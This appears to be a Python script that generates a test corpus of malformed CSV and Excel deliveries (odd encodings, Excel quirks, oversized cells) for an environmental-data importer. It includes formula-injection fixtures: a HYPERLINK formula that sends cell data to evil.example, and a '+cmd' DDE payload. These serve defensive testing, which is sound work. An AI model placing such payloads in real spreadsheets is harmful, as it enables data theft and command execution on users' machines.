"""Writes the corpus of nasty real-world deliveries (run once; the files are kept in git).

    .venv/bin/python tests/corpus/make_corpus.py

Each file imitates something a plant's Excel, ERP export or mail client really produces; what
each one must come to is in ``expected.json`` and explained in ``README.md``.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent
ENERGY = "plant_id,period,energy_type,quantity,unit"
PRODUCTION = "plant_id,period,quantity,unit"
WASTE = "plant_id,period,waste_type,treatment,quantity,unit"
CHEMICALS = "plant_id,period,substance,cas_number,medium,quantity,unit"
EXPECTED: dict[str, dict] = {}


def text(name: str, lines: list[str], expected: dict, encoding: str = "utf-8", newline: str = "\r\n") -> None:
    (HERE / name).write_bytes((newline.join(lines) + newline).encode(encoding))
    EXPECTED[name] = expected


def raw(name: str, data: bytes, expected: dict) -> None:
    (HERE / name).write_bytes(data)
    EXPECTED[name] = expected


def xlsx(name: str, rows: list[list[object]], expected: dict, merge: str | None = None,
         formats: dict[str, str] | None = None, sheets_before: dict[str, list[list[object]]] | None = None,
         dimension: str | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for title, before in (sheets_before or {}).items():  # sheets in front of the data (code lists)
        sheet.title = title
        for row in before:
            sheet.append(row)
        sheet = workbook.create_sheet("data")
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    for cell, number_format in (formats or {}).items():
        sheet[cell].number_format = number_format
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    if dimension:  # a writer that leaves <dimension> stale
        with zipfile.ZipFile(io.BytesIO(data)) as source:
            parts = {part: source.read(part) for part in source.namelist()}
        parts["xl/worksheets/sheet1.xml"] = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(),
                                                   parts["xl/worksheets/sheet1.xml"])
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for part, content in parts.items():
                target.writestr(part, content)
        data = buffer.getvalue()
    raw(name, data, expected)
    return data


def reject(row: int | None = None, column: str = "") -> dict:
    return {"expect": "reject", "row": row, "column": column}


def accept(*rows: tuple[int, str, dict]) -> dict:
    return {"expect": "accept", "rows": [[row, quantity, keys] for row, quantity, keys in rows]}


# Excel "Unicode Text": UTF-16 LE with BOM, tab separated.
raw("energy_excel_unicode_text.csv",
    ("\ufeff" + ENERGY.replace(",", "\t") + "\r\nP1\t2017-04\telectricity\t100\tkWh\r\n").encode("utf-16-le"), reject())
# Japanese Excel, a text-formatted cell: full-width digits.
text("energy_sjis_fullwidth_digits.csv", [ENERGY, "P1,2017-04,electricity,１２３４,kWh"], reject(2, "quantity"), "cp932")
# Japanese Excel "CSV (comma delimited)": Shift_JIS, Japanese free text, half-width katakana.
text("waste_sjis_japanese_excel.csv", [WASTE, "P1,2017-04,汚泥（脱水）,recycled,12.5,t", "P1,2017-04,ﾌﾟﾗｽﾁｯｸ,incinerated,3,t"],
     accept((2, "12.5", {"waste_type": "汚泥（脱水）"}), (3, "3", {"waste_type": "ﾌﾟﾗｽﾁｯｸ"})), "cp932")
# Two files pasted together: a UTF-8 part and a Shift_JIS part.
raw("waste_mixed_utf8_sjis.csv",
    f"{WASTE}\r\nP1,2017-04,汚泥,recycled,1,t\r\n".encode("utf-8") + "P1,2017-05,汚泥,recycled,2,t\r\n".encode("cp932"),
    reject())
# A month typed into a General cell and saved: Excel's serial number of 2017-04-01.
text("production_excel_serial_period.csv", [PRODUCTION, "P1,42826,100,t"], reject(2, "period"))
# A date cell saved as text.
text("production_excel_date_text.csv", [PRODUCTION, "P1,2017/04/01,100,t"], reject(2, "period"))
# Number format "#,##0": thousands separators, quoted by Excel.
text("energy_thousands_separators.csv", [ENERGY, 'P1,2017-04,electricity,"1,234,567",kWh'], reject(2, "quantity"))
text("energy_nan_inf.csv", [ENERGY, "P1,2017-04,electricity,NaN,kWh", "P1,2017-05,electricity,inf,kWh"],
     reject(2, "quantity"))
# Excel writes a wide number in a General column in scientific notation.
text("energy_excel_scientific.csv", [ENERGY, "P1,2017-04,electricity,1.23457E+11,kWh", "P1,2017-05,electricity,2.5E-03,kWh"],
     accept((2, "123457000000", {}), (3, "0.0025", {})))
# A cell with Alt+Enter line breaks, quoted.
text("waste_quoted_newlines.csv", [WASTE, 'P1,2017-04,"sludge\r\n(wet, dewatered)",recycled,4,t', "P1,2017-05,sludge,recycled,5,t"],
     accept((2, "4", {"waste_type": "sludge\r\n(wet, dewatered)"}), (3, "5", {})))
# Formula injection in free text: stored as text, never run (outputs neutralise it).
text("chemicals_formula_injection.csv", [
    CHEMICALS,
    'P1,2017-04,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",@SUM(1+1),air,1.5,kg',
    "P1,2017-04,+cmd|' /C calc'!A0,-2+3,water,0.5,kg",
], accept((2, "1.5", {"substance": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "cas_number": "@SUM(1+1)"}),
          (3, "0.5", {"substance": "+cmd|' /C calc'!A0", "cas_number": "-2+3"})))
text("production_formula_quantity.csv", [PRODUCTION, "P1,2017-04,=1+1,t"], reject(2, "quantity"))
raw("energy_empty.csv", b"", reject())
workbook = xlsx("energy_good.xlsx", [ENERGY.split(","), ["P1", dt.datetime(2017, 4, 1), "electricity", 1250.5, "kWh"]],
                accept((2, "1250.5", {"period": "2017-04"})))
raw("energy_truncated.xlsx", workbook[: len(workbook) // 2], reject())
# A report title merged across the first row, the header below it.
xlsx("energy_merged_title_row.xlsx", [["Energy FY2017 (plant P1)"], ENERGY.split(","), ["P1", "2017-04", "electricity", 5, "kWh"]],
     reject(1, "plant_id"), merge="A1:E1")
# Merged header cells: "period" spans the period and energy_type columns.
xlsx("energy_merged_header_cells.xlsx", [ENERGY.split(","), ["P1", "2017-04", "electricity", 5, "kWh"]],
     reject(1, "energy_type"), merge="B1:C1")
# A formula cell saved by a tool that does not cache values.
xlsx("energy_formula_without_cached_value.xlsx", [ENERGY.split(","), ["P1", "2017-04", "electricity", "=2*50", "kWh"]],
     reject(2, "quantity"))
# Blank rows between the data, numbers stored as text, months as date cells.
xlsx("production_blank_rows.xlsx", [PRODUCTION.split(","), ["P1", dt.datetime(2017, 4, 1), "10.5", "t"], [],
                                    ["P1", dt.datetime(2017, 5, 1), 11, "t"], [None, None, None, None]],
     accept((2, "10.5", {"period": "2017-04"}), (4, "11", {"period": "2017-05"})))
text("production_ragged.csv", [PRODUCTION, "P1,2017-04,10,t", "P1,2017-05,11,t,surplus"], reject(3, ""))
text("energy_duplicate_header.csv", [ENERGY + ",quantity", "P1,2017-04,electricity,1,kWh,2"], reject(1, "quantity"))
text("energy_huge_numbers.csv", [ENERGY, "P1,2017-04,electricity,1e400,kWh", "P1,2017-05,electricity,99999999999999999999,kWh"],
     reject(2, "quantity"))
text("production_unstorable_exponent.csv", [PRODUCTION, "P1,2017-04,0e999999,t"], reject(2, "quantity"))
# Excel "CSV UTF-8": BOM, CRLF, and empty columns to the right of the data as trailing commas.
raw("energy_bom_crlf_trailing_commas.csv",
    ("\ufeff" + ENERGY + ",,\r\nP1,2017-04,electricity,100,kWh,,\r\n,,,,,,\r\nP1,2017-05,city_gas,20,m3,,\r\n").encode("utf-8"),
    accept((2, "100", {}), (4, "20", {"energy_type": "city_gas"})))
text("production_header_only.csv", [PRODUCTION], reject())
# European Excel: semicolons and decimal commas.
text("energy_semicolon_decimal_comma.csv", [ENERGY.replace(",", ";"), "P1;2017-04;electricity;1234,5;kWh"], reject(1, "plant_id"))
# A web system's "Excel export": an HTML table with an .xlsx name.
raw("energy_html_saved_as.xlsx", b"<html><body><table><tr><td>plant_id</td></tr></table></body></html>", reject())
# Ideographic spaces typed around values in a Japanese Excel.
text("waste_fullwidth_space_padding.csv", [WASTE, "P1\u3000,2017-04,\u3000sludge,recycled\u3000,2,t"],
     accept((2, "2", {"plant_id": "P1", "waste_type": "sludge", "treatment": "recycled"})), "cp932")
# Classic Mac OS line ends (CR only).
text("energy_old_mac_cr.csv", [ENERGY, "P1,2017-04,electricity,7,kWh"], accept((2, "7", {})), newline="\r")
raw("chemicals_nul_bytes.csv", f"{CHEMICALS}\r\nP1,2017-04,tolu\x00ene,,air,1,kg\r\n".encode("utf-8"), reject())

# --- issue 18: what review found beyond the fuzzing ---
# A writer that never updates <dimension>: it says A1:D2, the sheet holds three data rows.
xlsx("production_stale_dimension.xlsx", [PRODUCTION.split(","), ["P1", "2017-04", 10, "t"], ["P1", "2017-05", 11, "t"],
                                         ["P1", "2017-06", 12, "t"]],
     accept((2, "10", {}), (3, "11", {}), (4, "12", {})), dimension="A1:D2")
# A percent-formatted cell: Excel stores 0.115 for a typed 11.5 %; it is read as the 11.5 it shows.
xlsx("production_percent_cell.xlsx", [PRODUCTION.split(","), ["P1", "2017-04", 0.115, "t"]],
     accept((2, "11.5", {})), formats={"C2": "0.0%"})
# A template whose first sheet is the code list; the data are on the second sheet.
xlsx("production_codes_sheet_first.xlsx", [PRODUCTION.split(","), ["P1", "2017-04", 10, "t"]], reject(1, ""),
     sheets_before={"codes": [["unit", "meaning"], ["t", "tonnes"], ["kg", "kilograms"]]})
# A table pasted one column to the right.
text("production_starts_in_column_b.csv", ["," + PRODUCTION, ",P1,2017-04,10,t"], reject(1, "column 2"))
# Arrow's lenient reader would read "12"3 as 123; Python's strict one refuses it: rejected by both.
text("production_stray_quote.csv", [PRODUCTION, 'P1,2017-04,"12"3,t'], reject())
# A cell over max_field_chars (10,000), and a line over max_line_chars (100,000).
text("production_long_cell.csv", [PRODUCTION + ",note", "P1,2017-04,10,t," + "x" * 10_001], reject(2, "note"))
text("production_long_line.csv", [PRODUCTION + ",note", "P1,2017-04,10,t," + "x" * 100_001], reject(2, ""))
# More columns than max_columns (200): one problem, not one per empty name.
text("production_wide_header.csv", [PRODUCTION + "," * 300 + ",last", "P1,2017-04,10,t"], reject(1, ""))
# Invisible characters: a zero-width space after a plant id, a word joiner in a unit.
text("production_zero_width_plant.csv", [PRODUCTION, "P1\u200b,2017-04,10,t"], reject(2, "plant_id"))
text("energy_word_joiner_unit.csv", [ENERGY, "P1,2017-04,electricity,10,kWh\u2060"], reject(2, "unit"))
# Typos in the year that pass YYYY-MM.
text("production_implausible_periods.csv", [PRODUCTION, "P1,0000-01,10,t", "P1,9999-12,10,t"], reject(2, "period"))
# Just over 10^15, which is 10^15 exactly as a float.
text("production_just_over_1e15.csv", [PRODUCTION, "P1,2017-04,1000000000000000.05,t"], reject(2, "quantity"))
# The same row twice (two real loads of the same size?): kept, counted once, with a warning.
text("production_identical_rows.csv", [PRODUCTION, "P1,2017-04,10,t", "P1,2017-04,10,t"],
     accept((2, "10", {}), (3, "10", {})))
# A known energy type in a unit it has no factor for: reported on the unit.
text("energy_unit_without_factor.csv", [ENERGY, "P1,2017-04,electricity,10,litre"], reject(2, "unit"))

(HERE / "expected.json").write_text(json.dumps(EXPECTED, indent=1, ensure_ascii=False, sort_keys=True) + "\n",
                                    encoding="utf-8")
print(f"wrote {len(EXPECTED)} files")
